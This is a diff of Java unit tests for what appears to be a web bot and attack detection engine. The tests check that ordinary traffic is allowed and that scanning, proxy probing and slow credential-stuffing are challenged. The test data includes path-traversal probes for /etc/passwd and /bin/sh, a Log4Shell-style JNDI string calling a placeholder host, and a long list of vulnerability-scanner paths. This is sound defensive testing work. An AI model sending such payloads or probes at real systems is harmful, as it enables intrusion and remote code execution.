@@ -354,6 +354,50 @@ class BuiltInSceneTests {
             assertThat(worst).isEqualTo(RiskAction.CHALLENGE);
         }
 
+        /** Forty others there do nothing alike: that there are many is held against nobody. */
+        @ParameterizedTest
+        @CsvSource({"/shop/, false, 80", "/shop/?page=, true, 59"})
+        void isNotWhoeverReadsInABusyNetwork(String path, boolean inOrder, int pages) {
+            for (int i = 0; i < pages; i++) {
+                for (int neighbour = 0; neighbour < 6; neighbour++) {
+                    String at = "203.0.113." + (20 + (6 * i + neighbour) % 40);
+                    RequestFacts page =
+                            request("GET", "/wiki/" + random.nextInt(100_000), BROWSER, "https://x.example/");
+                    RequestFacts picture =
+                            request("GET", "/images/" + i + neighbour + ".png", BROWSER, "https://x.example/");
+                    happens("crawler", RiskEvent.of(at(at, null), page), RiskResult.SUCCESS);
+                    happens("crawler", RiskEvent.of(at(at, null), picture), RiskResult.SUCCESS);
+                }
+                asks(
+                        "GET",
+                        path + (inOrder ? i : "item-" + Character.toString(0x4e00 + i)),
+                        BROWSER,
+                        "https://x.example/",
+                        200);
+                pause(3 + 6 * random.nextDouble());
+            }
+            assertThat(worst).isEqualTo(RiskAction.ALLOW);
+        }
+
+        @Test
+        void isNotOnePageThatIsNotThereAgainAndAgain() {
+            for (int i = 0; i < 14; i++) {
+                asks("GET", "/browse/old?x=" + i, BROWSER, "https://shop.example/", 404);
+                pause(3 + random.nextDouble());
+            }
+            assertThat(worst).isEqualTo(RiskAction.ALLOW);
+        }
+
+        /** Half an hour of a shop's products, from one page, without a single picture. */
+        @Test
+        void isWhoeverLoadsHundredsOfProductsWithAReferrerAndNothingElse() {
+            for (int i = 0; i < 278; i++) {
+                asks("GET", "/products/" + random.nextInt(100_000), BROWSER, "https://shop.example/", 200);
+                pause(4 + 4 * random.nextDouble());
+            }
+            assertThat(worst).isEqualTo(RiskAction.CHALLENGE);
+        }
+
         @Test
         void isNotACampusThatHasAllPicturesAlready() {
             aNetworkReads(40, 8, 3);
@@ -411,6 +455,100 @@ class BuiltInSceneTests {
                 pause(4 + 20 * random.nextDouble());
             }
             assertThat(worst).isEqualTo(RiskAction.ALLOW);
+        }
+
+        @Test
+        void isNotWhoeverIsLedFromPageToPageOfALongThread() {
+            for (int i = 1; i < 200; i++) {
+                asks("GET", "/thread/55/page/" + i, BROWSER, "https://forum.example/thread/55/page/" + (i - 1), 200);
+                pause(3 + 4 * random.nextDouble());
+            }
+            assertThat(worst).isEqualTo(RiskAction.ALLOW);
+        }
+
+        /** One or two pages each with their pictures, and each phone is an agent of its own. */
+        @Test
+        void isNotACarriersAddressWithManyPhones() {
+            for (int i = 0; i < 300; i++) {
+                String agent =
+                        "Mozilla/5.0 (Linux; Android 14; Phone-" + i + ") AppleWebKit/537.36 Chrome/138.0 Mobile";
+                for (int page = 0; page <= i % 2; page++) {
+                    asks("GET", "/products/" + random.nextInt(10_000), agent, "https://search.example/", 200);
+                    asks("GET", "/images/p/" + i + '-' + page + ".jpg", agent, "https://shop.example/", 200);
+                }
+                pause(3 * random.nextDouble());
+            }
+            assertThat(worst).isEqualTo(RiskAction.ALLOW);
+        }
+
+        /** As pages of a reader that caches articles do it: the answer is meant to be 404. */
+        @Test
+        void isNotACarriersAddressWhosePagesLookWhetherSomethingIsThere() {
+            for (int i = 0; i < 100; i++) {
+                String agent = "Mozilla/5.0 (iPhone; Version " + i + ") AppleWebKit/605.1.15 Mobile Safari";
+                asks("GET", "/products/" + random.nextInt(10_000), agent, "https://cache.example/", 200);
+                asks("GET", "/images/p/" + i + ".jpg", agent, "https://cache.example/", 200);
+                asks("HEAD", "/polyfill_error_expected", agent, "https://cache.example/", 404);
+                pause(10 * random.nextDouble());
+            }
+            assertThat(worst).isEqualTo(RiskAction.ALLOW);
+        }
+
+        @Test
+        void isWhoeverHasAnotherNameForEachPage() {
+            for (int i = 0; i < 150; i++) {
+                asks("GET", "/products/" + random.nextInt(10_000), BROWSER + i, "https://shop.example/", 200);
+                pause(2 + 4 * random.nextDouble());
+            }
+            assertThat(worst).isGreaterThanOrEqualTo(RiskAction.CHALLENGE);
+        }
+
+        /** Fifty files of a list, one after the other. */
+        @ParameterizedTest
+        @ValueSource(strings = {BROWSER, "Podcasts/3.0 (+https://podcasts.example/)"})
+        void isNotWhoeverLoadsTheFilesOfAList(String agent) {
+            for (int i = 0; i < 50; i++) {
+                asks("GET", "/logs/access.log." + i + ".gz", agent, "https://data.example/logs/", 200);
+                pause(4 + random.nextDouble() / 20);
+            }
+            assertThat(worst).isEqualTo(RiskAction.ALLOW);
+        }
+
+        @Test
+        void isNotWhoeverReadsThirtyFivePagesWithoutPicturesAndTellsNobodyWhereHeComesFrom() {
+            for (int i = 0; i < 35; i++) {
+                asks("GET", "/news/" + random.nextInt(10_000), BROWSER, null, 200);
+                pause(2 + 20 * random.nextDouble());
+            }
+            assertThat(worst).isEqualTo(RiskAction.ALLOW);
+        }
+
+        @Test
+        void isWhoeverLooksForWhatIsThereWordByWord() {
+            for (int i = 0; i < 100; i++) {
+                asks("HEAD", "/" + (char) ('a' + i % 26) + "-word-" + i, BROWSER, null, 404);
+                pause(6.5 + 2.5 * random.nextDouble());
+            }
+            assertThat(worst).isGreaterThanOrEqualTo(RiskAction.CHALLENGE);
+        }
+
+        @Test
+        void isNotASearchEngineWithOldAddresses() {
+            for (int i = 0; i < 60; i++) {
+                asks("GET", "/old/page" + i + ".php", "Mozilla/5.0 (compatible; YandexBot/3.0)", null, 404);
+                pause(15 + 10 * random.nextDouble());
+            }
+            assertThat(worst).isEqualTo(RiskAction.ALLOW);
+        }
+
+        @ParameterizedTest
+        @ValueSource(strings = {"Mozilla/5.0 (compatible;)", "Mozilla/4.0 (compatible; )"})
+        void isWhoeverSaysOnlyThatItIsLikeOthers(String agent) {
+            for (int i = 0; i < 60; i++) {
+                asks("GET", "/products/" + random.nextInt(10_000), agent, null, 200);
+                pause(2 + random.nextDouble());
+            }
+            assertThat(worst).isEqualTo(RiskAction.CHALLENGE);
         }
 
         @Test
@@ -488,7 +626,7 @@ class BuiltInSceneTests {
 
         @Test
         void isABrowserThatShowsNoPicturesAndComesFromNowhere() {
-            for (int i = 0; i < 40; i++) {
+            for (int i = 0; i < 45; i++) {
                 asks("GET", "/products/" + random.nextInt(10_000), BROWSER, null, 200);
                 pause(2 + 4 * random.nextDouble());
             }
@@ -541,6 +679,19 @@ class BuiltInSceneTests {
             "'/cgi-bin/.%2e/.%2e/bin/sh /wp-config.php.bak /x/../../etc/passwd', 404",
             "'/cgi-bin/.%2e/.%2e/bin/sh /cgi-bin/.%2e/.%2e/bin/sh', 400",
             "'/.env', 404",
+            "'/wp-login.php /wp-login.php', 404",
+            "'/wordpress/wp-login.php /blog/wp-login.php', 404",
+            "'/phpmyadmin/ /phpMyAdmin/', 404",
+            "'/manager/html /manager/html', 404",
+            "'/muieblackcat /phpMyAdmin/scripts/setup.php', 404",
+            "'//dede/login.php //plus/mytag_js.php', 404",
+            "'/cgi-bin/test-cgi /cgi-bin/php5', 404",
+            "'/wls-wsat/CoordinatorPortType /wls-wsat/CoordinatorPortType11', 404",
+            "'/currentsetting.htm /HNAP1', 404",
+            "'/TP/public/index.php /html/public/index.php', 404",
+            "'/dbadmin/ /sqlweb/', 404",
+            "'/a2billing/ /vtigercrm/vtigerservice.php', 404",
+            "'/wp-content/plugins/revslider/temp/ /wp-content/themes/x/404.php', 404",
             "'/wp-login.php /wp-content/plugins/wp-file-manager/readme.txt /wp-json/wp/v2/users', 404",
             "'/vpn/../vpns/cfg/smb.conf /logon/LogonPoint/index.html', 404",
             "'/dana-na/auth/url_default/welcome.cgi /remote/login', 404",
@@ -616,6 +767,25 @@ class BuiltInSceneTests {
         }
 
         @Test
+        void isWhoeverLooksForAProxy() {
+            for (int i = 0; i < 3; i++) {
+                asks("CONNECT", "/mail.example:25", BROWSER, null, 405);
+                pause(2);
+            }
+            assertThat(worst).isGreaterThanOrEqualTo(RiskAction.CHALLENGE);
+        }
+
+        /** The client of a gateway that has moved goes on looking for it. */
+        @Test
+        void isNotAProgramThatAsksForTheSameHoleAgain() {
+            for (int i = 0; i < 20; i++) {
+                asks("GET", "/global-protect/prelogin.esp", "PAN GlobalProtect/6.0 (Windows)", null, 404);
+                pause(20 + 5 * random.nextDouble());
+            }
+            assertThat(worst).isEqualTo(RiskAction.ALLOW);
+        }
+
+        @Test
         void isWhoeverLooksForHolesByItsName() {
             String agent = "${jndi:ldap://198.51.100.7/a}";
             asks("GET", "/", agent, null, 200);
@@ -676,6 +846,7 @@ class BuiltInSceneTests {
             "'/files/a.zip /files/b.zip /files/c.tar.gz', 404",
             "'/news.php /shop.php /old/page17.php /old/page18.aspx', 404",
             "'/console/ps3 /console/ps4', 404",
+            "'/wp-content/uploads/2015/03/slides.pdf /downloads/tool-1.2.zip /wp-content/uploads/a/b.docx', 404",
             "'/autodiscover/autodiscover.xml /Autodiscover/Autodiscover.xml', 404",
             "'/search?q=union+workers+select+committee /search?q=script+for+a+play /go?to=https://x.example/a/../b', 200"
         })
@@ -792,6 +963,16 @@ class BuiltInSceneTests {
         void isGuessedByWhoGetsNothingRight() {
             for (int i = 0; i < 12; i++) {
                 tries(null, "victim", true);
+            }
+            assertThat(worst).isEqualTo(RiskAction.CHALLENGE);
+        }
+
+        /** One each two minutes: forty names, all of them wrong. */
+        @Test
+        void isStuffedSlowlyByOneOfManyAddresses() {
+            for (int i = 0; i < 40; i++) {
+                tries(null, "victim-" + i, true);
+                pause(90 + 90 * random.nextDouble());
             }
             assertThat(worst).isEqualTo(RiskAction.CHALLENGE);
         }
